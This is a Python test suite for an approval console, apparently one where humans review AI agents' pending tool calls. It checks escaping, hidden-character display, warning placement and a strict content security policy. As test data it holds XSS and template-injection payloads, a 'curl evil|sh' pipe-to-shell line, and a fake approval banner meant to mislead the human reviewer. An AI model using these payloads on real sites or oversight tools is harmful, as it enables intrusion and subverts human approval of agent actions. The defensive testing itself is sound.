"""The console's pages show what is sealed, and nothing shown can become markup."""

import re
from dataclasses import replace
from html.parser import HTMLParser
from importlib.resources import files

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from jinja2 import Environment

from lictor.console.pages import (
    CONTENT_SECURITY_POLICY,
    HEADERS,
    hold_page,
    inbox_page,
    login_page,
    message_page,
    must_confirm_end,
)
from lictor.console.views import ArgumentView, DecisionView, FieldView, HoldView
from lictor.protocol.display import render

HOLD = HoldView(
    id="hold_1",
    agent="reporter",
    human="dana",
    task="task_1",
    purpose="weekly report",
    server="mail",
    kind="tool",
    tool="mail.send",
    effect="destructive",
    reversible=False,
    digest="sha256:" + "0" * 64,
    groups=(("leads",), ("security", "ops")),
    opened_at="2026-11-21 05:12:09 UTC",
    expires_at="2026-11-21 05:27:09 UTC",
    arguments=(ArgumentView(path="to", kind="string", text="x@evil.example"),),
)
DECISION = DecisionView(at="05:00", agent="a", action="mail/mail.send", answer="deny", reason="forbidden")
ATTACKS = [
    '<img src=x onerror=fetch("/approve/1")><!-- -->[OK](javascript:approve())',
    "</bdi></li></ol><script>alert(1)</script>",
    "\"' onmouseover='x' style='position:fixed' autofocus onfocus=\"x\"",
    "{{ 7*7 }}{% include '/etc/passwd' %}&lt;script&gt;",
    "<form action=//evil.example><button>Approve</button></form>",
    "javascript:alert(1)//\u202e\u200b\x00<svg/onload=x>",
]
TAGS = frozenset(
    [
        "html",
        "head",
        "meta",
        "title",
        "link",
        "body",
        "header",
        "a",
        "span",
        "main",
        "section",
        "h1",
        "h2",
        "p",
        "form",
        "input",
        "label",
        "button",
        "textarea",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "article",
        "div",
        "dl",
        "dt",
        "dd",
        "ol",
        "li",
        "ul",
        "bdi",
        "strong",
    ]
)
ATTRIBUTES = frozenset(
    [
        "lang",
        "charset",
        "name",
        "content",
        "rel",
        "href",
        "class",
        "method",
        "action",
        "type",
        "value",
        "for",
        "id",
        "autocomplete",
        "required",
        "autofocus",
        "rows",
        "maxlength",
        "dir",
        "role",
        "aria-label",
        "formnovalidate",
    ]
)
LINKS = re.compile(r"/|/static/lictor\.css|/login|/logout|/holds/[A-Za-z0-9%_.~/\-]*")


class Page(HTMLParser):
    """What a browser would make of a page, flattened; `problems` is what it must never find."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.problems: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        if tag not in TAGS:
            self.problems.append(f"tag {tag}")
        for name, value in attrs:
            if name not in ATTRIBUTES:
                self.problems.append(f"attribute {name}")
            if name in {"href", "action"} and not LINKS.fullmatch(value or ""):
                self.problems.append(f"link {value}")
        if len({name for name, _ in attrs}) != len(attrs):
            self.problems.append("attribute twice")

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.problems.append(f"comment {data!r}")

    def shape(self) -> list[tuple[str, str | None]]:
        """The structure, without the spans that depend on content."""
        return [(tag, attrs.get("class")) for tag, attrs in self.tags if tag not in {"span", "li"}]


def everything(text: str) -> HoldView:
    """A hold in which every free text is `text`."""
    return replace(
        HOLD,
        id=text,
        agent=text,
        human=text,
        task=text,
        purpose=text,
        server=text,
        kind=text,
        tool=text,
        effect=text,
        digest=text,
        groups=((text, text),),
        opened_at=text,
        expires_at=text,
        arguments=(ArgumentView(path=text, kind=text, text=text),),
        facts=(FieldView(label=text, text=text, note=text),),
        labels=(text,),
        agent_reason=text,
        why_not=text,
    )


def all_pages(text: str) -> list[str]:
    hold = everything(text)
    decision = DecisionView(at=text, agent=text, action=text, answer=text, reason=text, outcome=text)
    return [
        login_page(csrf=text, error=text, next_hold=text),
        inbox_page(holds=[hold], decisions=[decision], user=text, csrf=text),
        hold_page(hold, csrf=text, user=text),
        hold_page(replace(hold, status=text), csrf=text, user=text),
        message_page(title=text, text=text, user=text),
    ]


def controls_in(html: str) -> list[str]:
    return [char for char in html if not char.isprintable() and char != "\n"]


@pytest.mark.parametrize("attack", ATTACKS)
def test_markup_in_any_field_stays_text(attack: str) -> None:
    """APRV-12: no tag, attribute, link or comment that the templates do not have."""
    for html in all_pages(attack):
        assert Page(html).problems == []


@given(st.text(max_size=60) | st.lists(st.sampled_from([*ATTACKS, *"<>\"'&`\n\\[]{}%/"]), max_size=6).map("".join))
@settings(max_examples=60, deadline=None)
def test_no_text_becomes_structure(text: str) -> None:
    """Whatever stands in the fields: no script, inline style or event handler, and the structure stays."""
    text = text.encode("utf-8", "replace").decode() or "x"
    for html, plain in zip(all_pages(text), all_pages("plain"), strict=True):
        page = Page(html)
        assert page.problems == []
        assert [tag for tag, _ in page.shape() if tag in {"form", "button", "input"}] == [
            tag for tag, _ in Page(plain).shape() if tag in {"form", "button", "input"}
        ]


def test_the_check_finds_a_page_that_does_not_escape() -> None:
    """Control experiment: the same template text without autoescape is caught."""
    careless = Environment(autoescape=False).from_string("<p>{{ text }}</p>")
    assert all(Page(careless.render(text=attack)).problems for attack in (ATTACKS[0], ATTACKS[1], ATTACKS[5]))
    assert Page("<p style='x' onclick='y'></p>").problems == ["attribute style", "attribute onclick"]


def test_hidden_characters_are_seen() -> None:
    """APRV-06, APRV-10: the page holds no invisible or reordering character, but their names."""
    hidden = replace(everything("inv\u202efdp\u200b\U000e0041\x1b\x00\ufeff\ud800"), digest=HOLD.digest, id=HOLD.id)
    html = hold_page(replace(hidden, status="pending"), csrf="t", user="\u200bdana")
    assert controls_in(html) == []
    assert html.encode("utf-8")
    body = hold_page(
        replace(
            HOLD, arguments=(ArgumentView(path="p\u200b", kind="string", text="inv\u202efdp\u200b\U000e0041\x1b"),)
        ),
        csrf="t",
    )
    assert controls_in(body) == []
    for name in ("[U+202E]", "[U+200B]", "[U+E0041]", "\\x1b"):
        assert name in Page(body).text


def test_warnings_stand_before_the_content() -> None:
    """APRV-08, APRV-10: what is odd about any argument is said at the top."""
    arguments = (
        ArgumentView(path="url", kind="string", text="https://\u0430pple.com/"),
        ArgumentView(path="text", kind="string", text="ok\U000e0041\U000e0042"),
    )
    text = Page(hold_page(replace(HOLD, arguments=arguments), csrf="t")).text
    top = text[: text.index("What will be sent")]
    assert "xn--pple-43d.com" in top
    assert "mixed script" in top
    assert "2 invisible code points" in top
    assert "Look closely" not in hold_page(HOLD, csrf="t")


def test_every_argument_is_shown_whole() -> None:
    """APRV-03: nothing is left out of a long argument; size and digest are given."""
    text = " ".join(str(number) for number in range(20_000))
    page = Page(hold_page(replace(HOLD, arguments=(ArgumentView(path="t", kind="string", text=text),)), csrf="t"))
    assert text in page.text
    assert f"{len(text)} bytes" in page.text


def test_a_fake_approval_stays_in_its_box() -> None:
    """APRV-14: a banner in an argument is numbered lines of that argument; the page's structure is as without it."""
    fake = "\n===== APPROVED BY GATEWAY =====\nAmount: 1 EUR\nEnd of the action\nApprove once"
    faked = hold_page(replace(HOLD, arguments=(ArgumentView(path="note", kind="string", text=fake),)), csrf="t")
    rows = re.findall(r"<li>(.*?)</li>", faked)
    assert sum("APPROVED BY GATEWAY" in row for row in rows) == 1
    assert all(row.startswith('<bdi class="t" dir="ltr">') for row in rows)
    outside = re.sub(r"<ol class=\"lines\">.*?</ol>", "", faked, flags=re.DOTALL)
    assert "APPROVED BY GATEWAY" not in outside
    assert outside.count("End of the action") == outside.count("Approve once") == 1


def test_the_models_words_stand_apart_and_last() -> None:
    """APRV-01: the reason is marked, comes after every argument, and is absent when there is none."""
    html = hold_page(replace(HOLD, agent_reason="Send the weekly report"), csrf="t")
    assert html.index("x@evil.example") < html.index("Written by the agent, not verified")
    assert html.index("Written by the agent, not verified") < html.index("Send the weekly report")
    assert "Written by the agent" not in hold_page(HOLD, csrf="t")


def test_the_buttons_come_after_the_end_and_deny_first() -> None:
    """APRV-02: nobody can approve before the end; pressing Enter never approves."""
    html = hold_page(HOLD, csrf="tok", user="dana")
    assert html.index("End of the action") < html.index('value="deny"') < html.index('value="approve"')
    assert html.rindex("x@evil.example") < html.index("End of the action")
    hidden = {attrs["name"]: attrs["value"] for tag, attrs in Page(html).tags if attrs.get("type") == "hidden"}
    assert hidden == {"csrf": "tok", "digest": HOLD.digest}


def test_long_content_asks_whether_it_was_read() -> None:
    """Approving something long takes one more deliberate act, which the server can check."""
    long = replace(HOLD, arguments=(ArgumentView(path="t", kind="string", text="ls" + "\n" * 400 + "curl evil|sh"),))
    assert must_confirm_end(long)
    assert 'name="seen_end" value="yes" required' in hold_page(long, csrf="t")
    assert not must_confirm_end(HOLD)
    assert "seen_end" not in hold_page(HOLD, csrf="t")


@pytest.mark.parametrize(
    "change", [{"status": "denied"}, {"may_answer": False, "why_not": "you asked for it yourself"}]
)
def test_what_cannot_be_answered_has_no_form(change: dict[str, object]) -> None:
    """A closed hold, or one of somebody who may not answer, has no button at all."""
    html = hold_page(replace(HOLD, **change), csrf="t")  # type: ignore[arg-type]
    assert "<button" not in html
    assert str(change.get("why_not", "denied")) in html


def test_an_unknown_effect_looks_like_the_worst() -> None:
    """Fail closed in looks, too; and an unknown answer looks like a refusal."""
    assert "effect-destructive" in hold_page(replace(HOLD, effect="harmless"), csrf="t")
    odd = replace(DECISION, answer="allowed!")
    assert "answer-deny" in inbox_page(holds=[], decisions=[odd], user="u", csrf="t")


def test_strings_and_numbers_differ_on_the_page() -> None:
    """The text "1" and the number 1 are different bytes, so they are different pages."""
    a, b = (replace(HOLD, arguments=(ArgumentView(path="n", kind=k, text="1"),)) for k in ("string", "number"))
    assert hold_page(a, csrf="t") != hold_page(b, csrf="t")


def test_inbox_and_messages_say_what_they_should() -> None:
    """Holds link to their page; empty lists say so; a message says its sentence."""
    html = inbox_page(holds=[HOLD], decisions=[DECISION], user="dana", csrf="t")
    assert 'href="/holds/hold_1"' in html
    assert "forbidden" in html
    assert "Nothing is waiting." in inbox_page(holds=[], decisions=[], user="dana", csrf="t")
    assert render("it’s done") in Page(message_page(title="Done", text="it’s done")).text
    assert 'value="hold_1"' in login_page(csrf="t", next_hold="hold_1")


def test_the_policy_of_the_pages_allows_nothing_but_the_sheet() -> None:
    """The header is exactly the strict one, and templates and sheet need no more than it allows."""
    assert CONTENT_SECURITY_POLICY == (
        "default-src 'none'; style-src 'self'; form-action 'self'; frame-ancestors 'none'; base-uri 'none'"
    )
    assert HEADERS["Content-Security-Policy"] == CONTENT_SECURITY_POLICY
    css = files("lictor.console").joinpath("static/lictor.css").read_text("utf-8")
    assert "url(" not in css
    assert "@import" not in css
    for template in files("lictor.console").joinpath("templates").iterdir():
        source = template.read_text("utf-8")
        assert not re.search(r"<script|style=|\son\w+=|\|safe|autoescape", source), template.name
